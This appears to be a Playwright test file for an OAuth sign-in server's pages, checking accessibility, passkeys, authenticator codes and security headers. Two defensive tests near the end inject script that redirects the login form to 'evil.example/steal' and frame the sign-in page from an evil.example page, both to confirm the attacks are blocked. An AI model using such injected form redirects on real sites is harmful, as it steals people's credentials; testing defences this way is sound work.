import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { after, before, describe, type TestContext, test } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { z } from 'zod';
import { ACR_PHISHING_RESISTANT } from '../src/user-authentication/authentication-context.ts';
import { totpCode, totpStep } from '../src/user-authentication/totp.ts';
import { type AuthorizationServer, startAuthorizationServer } from './authorization-server.ts';
import { startChromium, whyNoChromium } from './chromium.ts';
import { eventually } from './eventually.ts';
import { inEveryLook } from './every-look.ts';
import { serveHttp } from './https-on-loopback.ts';

const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
const PASSWORD = 'correct horse battery staple';

const LOGO = 'https://orchard.example/logo.svg';
const LOGO_IMAGE =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="6" r="3.5" fill="#c0392b"/><path d="M5 3q0-2 2-2" stroke="#2d6a2d" fill="none"/></svg>';

const Violations = z.array(
  z.object({
    id: z.string(),
    impact: z.string().nullish(),
    help: z.string(),
    nodes: z.array(z.object({ html: z.string(), failureSummary: z.string().optional() })),
  }),
);

describe('the pages in Chromium', { skip: whyNoChromium(), timeout: 420_000 }, () => {
  let server: AuthorizationServer;
  let browser: Browser;
  const shown = new Set<string>();

  before(async () => {
    server = await startAuthorizationServer({ sign_in: { client_certificate: true } });
    browser = await startChromium();
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  /** Looks at the page as it is, in every size and mode, and has axe look for barriers. */
  async function look(page: Page, name: string): Promise<void> {
    shown.add(name);
    await inEveryLook(page, name, async (style, overflow) => {
      assert.equal(overflow, 0, `${name} is wider than a ${style} screen`);
      // Barriers come with the colours and the words; one size of each mode shows them.
      if (style !== 'desktop-light' && style !== 'phone-dark') return;
      await page.addScriptTag({ path: AXE }).catch(() => {});
      const found = Violations.parse(
        await page.evaluate(
          'axe.run(document, { resultTypes: ["violations"] }).then(({ violations }) => JSON.parse(JSON.stringify(violations)))',
        ),
      );
      assert.deepEqual(
        found.map(({ id, impact, nodes }) => ({
          id,
          impact,
          nodes: nodes.map((node) => node.failureSummary),
        })),
        [],
        `${name}, ${style}`,
      );
    });
  }

  /** A person's browser. `bypassCSP` lets axe in; pages under a test of their policy are opened without it. */
  const openBrowser = async (
    options: { readonly scripts?: false; readonly csp?: true } = {},
  ): Promise<BrowserContext> => {
    const context = await browser.newContext({
      ignoreHTTPSErrors: true,
      bypassCSP: !options.csp,
      locale: 'en-GB',
      javaScriptEnabled: options.scripts !== false,
    });
    await context.route(LOGO, (route) => route.fulfill({ contentType: 'image/svg+xml', body: LOGO_IMAGE }));
    return context;
  };

  const person = async () => (await server.browser()).user;

  /** Does what leads to another page, and waits until that is there: a click alone does not. */
  async function leading(page: Page, act: () => Promise<void>): Promise<void> {
    const loaded = page.waitForEvent('load');
    await act();
    await loaded;
  }

  async function signIn(page: Page, username: string, password = PASSWORD): Promise<void> {
    await page.getByLabel('Username').fill(username);
    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  }

  const authorizationUrl = (client: { client_id: string; redirect_uri: string }, more = {}) =>
    `${server.issuer}/oauth2/authorize?${new URLSearchParams({
      client_id: client.client_id,
      redirect_uri: client.redirect_uri,
      response_type: 'code',
      scope: 'openid profile email offline_access orders',
      state: 'xyz',
      nonce: 'n',
      ...more,
    })}`;

  const register = (redirect_uri: string) =>
    server.register({
      client_name: 'Orchard Orders',
      scope: 'openid profile email offline_access orders',
      grant_types: ['authorization_code', 'refresh_token'],
      redirect_uris: [redirect_uri],
      client_uri: 'https://orchard.example',
      logo_uri: LOGO,
      policy_uri: 'https://orchard.example/privacy',
      tos_uri: 'https://orchard.example/terms',
    });

  /** An application: where it is called back, and the client it is registered as. */
  const application = async (t: TestContext) => {
    const { port } = await serveHttp(t, (_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end('<!doctype html><title>Back</title><h1>Back</h1>');
    });
    const origin = `http://localhost:${port}`;
    const client = await register(`${origin}/playground2/oauth2client`);
    return { client, origin, back: (page: Page) => page.waitForURL(`${origin}/**`) };
  };

  test('sign-in, consent and back to the application', async (t) => {
    const { client, back } = await application(t);
    const user = await person();
    const context = await openBrowser();
    const page = await context.newPage();
    await page.goto(authorizationUrl(client));
    await look(page, 'sign-in');
    await leading(page, () => signIn(page, user.username, 'wrong'));
    await look(page, 'sign-in-problem');
    assert.equal(await page.evaluate('document.activeElement.getAttribute("role")'), 'alert');
    await leading(page, () => signIn(page, user.username));
    await look(page, 'consent');
    await leading(page, () => page.getByRole('link', { name: 'Not you? Use another account' }).click());
    await look(page, 'sign-in-already');
    await eventually(
      () => page.evaluate(`document.querySelector('.client img').naturalWidth > 0`),
      (isShown) => isShown === true,
    );
    await page.getByRole('link', { name: `Continue as ${user.username}` }).click();
    await page.getByRole('button', { name: 'Allow' }).click();
    await back(page);
    const callback = new URL(page.url());
    assert.equal(callback.searchParams.get('state'), 'xyz');
    assert(callback.searchParams.get('code'));
    await context.close();
  });

  /** Reads a secret off the page and counts as the app would. */
  const codeOf = (secret: string, offset = 0) =>
    totpCode(secret.replaceAll(' ', ''), totpStep(Date.now()) + offset);

  test('the account: authenticator app, recovery codes, passwords, applications, sessions', async () => {
    const client = await register('https://client.example/callback');
    const user = await person();
    await server.opened.storage.consents.put({
      sub: user.sub,
      client_id: client.client_id,
      scopes: ['openid', 'email', 'orders'],
      granted_at: Date.now(),
    });
    const elsewhere = await openBrowser();
    const other = await elsewhere.newPage();
    await other.goto(`${server.issuer}/account`);
    await signIn(other, user.username);

    const context = await openBrowser();
    const page = await context.newPage();
    await page.goto(`${server.issuer}/account`);
    await leading(page, () => signIn(page, user.username));
    await look(page, 'account');

    await leading(page, () => page.getByRole('link', { name: 'Set up authenticator app' }).click());
    await look(page, 'authenticator');
    const secret = (await page.locator('.secret').textContent()) ?? '';
    await page.getByLabel('Code that the app shows').fill('000000');
    await leading(page, () => page.getByRole('button', { name: 'Confirm' }).click());
    await look(page, 'authenticator-problem');
    assert.equal(await page.locator('.secret').textContent(), secret);
    await page.getByLabel('Code that the app shows').fill(codeOf(secret, -1));
    await leading(page, () => page.getByRole('button', { name: 'Confirm' }).click());
    await look(page, 'recovery-codes');
    const recovery = (await page.locator('.codes li').first().textContent()) ?? '';
    await leading(page, () => page.getByRole('button', { name: 'I have kept them' }).click());
    await look(page, 'account-protected');

    await leading(page, () => page.getByRole('link', { name: 'Change password' }).click());
    await look(page, 'password');
    await page.getByLabel('Current password').fill(PASSWORD);
    await page.getByLabel('New password', { exact: true }).fill('short');
    await page.getByLabel('New password again').fill('short');
    await leading(page, () => page.getByRole('button', { name: 'Change password' }).click());
    await look(page, 'password-problem');
    const changed = 'a lighthouse full of plums';
    await page.getByLabel('Current password').fill(PASSWORD);
    await page.getByLabel('New password', { exact: true }).fill(changed);
    await page.getByLabel('New password again').fill(changed);
    await leading(page, () => page.getByRole('button', { name: 'Change password' }).click());
    await look(page, 'account-notice');
    await other.reload();
    assert.match(other.url(), /\/oauth2\/sign-in$/);
    await elsewhere.close();

    await leading(page, () => page.getByRole('link', { name: 'Sign out' }).click());
    await look(page, 'sign-out');
    await leading(page, () => page.getByRole('button', { name: 'Sign out' }).click());
    await look(page, 'signed-out');

    await leading(page, () => page.getByRole('link', { name: 'Sign in again' }).click());
    await leading(page, () => signIn(page, user.username, changed));
    await look(page, 'second-factor');
    await page.getByLabel('Code').fill('123456');
    await leading(page, () => page.getByRole('button', { name: 'Confirm' }).click());
    await look(page, 'second-factor-problem');
    await page.getByLabel('Code').fill(recovery);
    await leading(page, () => page.getByRole('button', { name: 'Confirm' }).click());
    await page.getByRole('heading', { name: 'Your account' }).waitFor();
    assert(await page.getByText('9 left').isVisible());
    await page.getByRole('button', { name: 'Revoke the access of Orchard Orders' }).click();
    await page.getByText('The application has no access any more.').waitFor();
    assert.equal(await server.opened.storage.consents.find(user.sub, client.client_id), undefined);
    await context.close();
  });

  test('a passkey, from its registration to a sign-in that nobody can phish', async () => {
    const user = await person();
    const context = await openBrowser();
    const page = await context.newPage();
    const devtools = await context.newCDPSession(page);
    await devtools.send('WebAuthn.enable');
    await devtools.send('WebAuthn.addVirtualAuthenticator', {
      options: {
        protocol: 'ctap2',
        transport: 'internal',
        hasResidentKey: true,
        hasUserVerification: true,
        isUserVerified: true,
        automaticPresenceSimulation: true,
      },
    });
    await page.goto(`${server.issuer}/account`);
    await signIn(page, user.username);
    await leading(page, () => page.getByRole('link', { name: 'Add a passkey' }).click());
    await look(page, 'passkey');
    await page.getByLabel('Name').fill('Blue security key');
    await page.getByRole('button', { name: 'Add a passkey' }).click();
    await page.getByRole('button', { name: 'I have kept them' }).click();
    await page.getByText('Blue security key').waitFor();
    await look(page, 'account-passkey');

    await page.goto(`${server.issuer}/oidc/logout`);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('link', { name: 'Sign in again' }).click();
    await signIn(page, user.username);
    await page.getByRole('button', { name: 'Use a passkey' }).waitFor();
    await look(page, 'second-factor-passkey');
    await page.getByRole('button', { name: 'Use a passkey' }).click();
    await page.getByRole('heading', { name: 'Your account' }).waitFor();
    const { items } = await server.opened.storage.sessions.list({ sub: user.sub }, { limit: 10 }, Date.now());
    assert.deepEqual(
      items.slice(0, 1).map(({ amr, acr }) => ({ amr, acr })),
      [{ amr: ['pwd', 'pop', 'mfa'], acr: ACR_PHISHING_RESISTANT }],
    );
    await context.close();
  });

  test('a passkey of another account is refused, and the page says so', async () => {
    const user = await person();
    const context = await openBrowser();
    const page = await context.newPage();
    const devtools = await context.newCDPSession(page);
    await devtools.send('WebAuthn.enable');
    await page.goto(`${server.issuer}/account`);
    await signIn(page, user.username);
    await page.getByRole('heading', { name: 'Your account' }).waitFor();
    await server.opened.storage.credentials.insert({
      kind: 'passkey',
      credential_id: 'bm90LXRoZXJl',
      sub: user.sub,
      created_at: Date.now(),
      public_key: 'pQ',
      counter: 0,
      transports: ['internal'],
      label: 'Lost',
    });
    await page.goto(`${server.issuer}/oidc/logout`);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'You are signed out' }).waitFor();
    await page.goto(`${server.issuer}/oauth2/sign-in`);
    await signIn(page, user.username);
    await devtools.send('WebAuthn.addVirtualAuthenticator', {
      options: {
        protocol: 'ctap2',
        transport: 'internal',
        hasResidentKey: true,
        hasUserVerification: true,
        isUserVerified: true,
        automaticPresenceSimulation: true,
      },
    });
    await page.getByRole('button', { name: 'Use a passkey' }).click();
    await page.getByText('The passkey was not accepted.').waitFor();
    await context.close();
  });

  test('errors, in English and in the language of the person', async () => {
    const context = await openBrowser();
    const page = await context.newPage();
    await page.goto(`${server.issuer}/oauth2/authorize?client_id=nobody`);
    await look(page, 'error');
    const client = await register('https://client.example/callback');
    await page.goto(`${server.issuer}/oauth2/sign-in?request=over.${client.client_id}`);
    await look(page, 'sign-in-over');
    await page.goto(`${server.issuer}/oidc/logout?id_token_hint=nonsense`);
    await look(page, 'sign-out-problem');
    for (const language of ['de', 'pt']) {
      await page.goto(authorizationUrl(client, { ui_locales: language }));
      assert.equal(await page.locator('html').getAttribute('lang'), language);
      await look(page, `sign-in-${language}`);
    }
    await context.close();
  });

  test('under its policy and without JavaScript, the way to the application is open and no page breaks a rule', async (t) => {
    const { client, origin, back } = await application(t);
    const user = await person();
    for (const scripts of [undefined, false] as const) {
      const context = await openBrowser({ csp: true, ...(scripts === false && { scripts }) });
      const page = await context.newPage();
      const complaints: string[] = [];
      page.on('console', (message) => {
        if (message.type() === 'error' || /Content.Security.Policy/i.test(message.text())) {
          complaints.push(`${page.url()}: ${message.text()}`);
        }
      });
      await page.goto(authorizationUrl(client, { prompt: 'consent' }));
      await signIn(page, user.username);
      await page.getByRole('button', { name: 'Allow' }).click();
      await back(page);
      await page.goto(authorizationUrl(client, { prompt: 'login' }));
      await page.getByRole('button', { name: 'Cancel' }).click();
      await page.waitForURL(/error=access_denied/);
      await page.goto(`${server.issuer}/account`);
      await page.getByRole('link', { name: 'Sign out' }).click();
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.getByRole('heading', { name: 'You are signed out' }).waitFor();
      assert.deepEqual(
        complaints.filter((complaint) => !complaint.startsWith(origin)),
        [],
      );
      await context.close();
    }
  });

  test('an application may redirect on to wherever it lives, from sign-in, consent and sign-out', async (t) => {
    const home = await serveHttp(t, (_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end('<!doctype html><title>Home</title><h1>Home</h1>');
    });
    const callback = await serveHttp(t, (_request, response) => {
      response.writeHead(302, { location: `http://localhost:${home.port}/` }).end();
    });
    const uri = `http://localhost:${callback.port}/callback`;
    const client = await server.register({ redirect_uris: [uri], post_logout_redirect_uris: [uri] });
    const user = await person();
    const context = await openBrowser({ csp: true });
    const page = await context.newPage();
    const arrive = () => page.waitForURL(`http://localhost:${home.port}/`);
    await page.goto(authorizationUrl(client, { scope: 'openid' }));
    await signIn(page, user.username);
    await page.getByRole('button', { name: 'Allow' }).click();
    await arrive();
    await page.goto(authorizationUrl(client, { scope: 'openid', prompt: 'login' }));
    await signIn(page, user.username);
    await arrive();
    const logout = new URLSearchParams({ client_id: client.client_id, post_logout_redirect_uri: uri });
    await page.goto(`${server.issuer}/oidc/logout?${logout}`);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await arrive();
    await context.close();
  });

  test('a form cannot be sent anywhere else, whatever were smuggled into the page', async () => {
    const client = await register('https://client.example/callback');
    const context = await openBrowser({ csp: true });
    const page = await context.newPage();
    const requests: string[] = [];
    await context.route('https://evil.example/**', (route) => {
      requests.push(route.request().url());
      return route.fulfill({ body: 'stolen' });
    });
    await page.goto(authorizationUrl(client));
    await page.getByLabel('Username').fill('anna');
    await page.getByLabel('Password').fill('secret');
    const blocked = await page.evaluate(`new Promise((blocked) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked(effectiveDirective));
      document.forms[0].action = 'https://evil.example/steal';
      document.forms[0].requestSubmit();
    })`);
    assert.equal(blocked, 'form-action');
    assert.deepEqual(requests, []);
    await context.close();
  });

  test('no page is shown in a frame', async () => {
    const context = await openBrowser({ csp: true });
    const page = await context.newPage();
    await context.route('https://evil.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><title>Prize</title><iframe src="${server.issuer}/oauth2/sign-in"></iframe>`,
      }),
    );
    await page.goto('https://evil.example/');
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    assert(frame);
    assert.equal(await frame.getByLabel('Password').count(), 0);
    await context.close();
  });

  test('every page was looked at', () => {
    assert.deepEqual([...shown].toSorted(), [
      'account',
      'account-notice',
      'account-passkey',
      'account-protected',
      'authenticator',
      'authenticator-problem',
      'consent',
      'error',
      'passkey',
      'password',
      'password-problem',
      'recovery-codes',
      'second-factor',
      'second-factor-passkey',
      'second-factor-problem',
      'sign-in',
      'sign-in-already',
      'sign-in-de',
      'sign-in-over',
      'sign-in-problem',
      'sign-in-pt',
      'sign-out',
      'sign-out-problem',
      'signed-out',
    ]);
  });
});
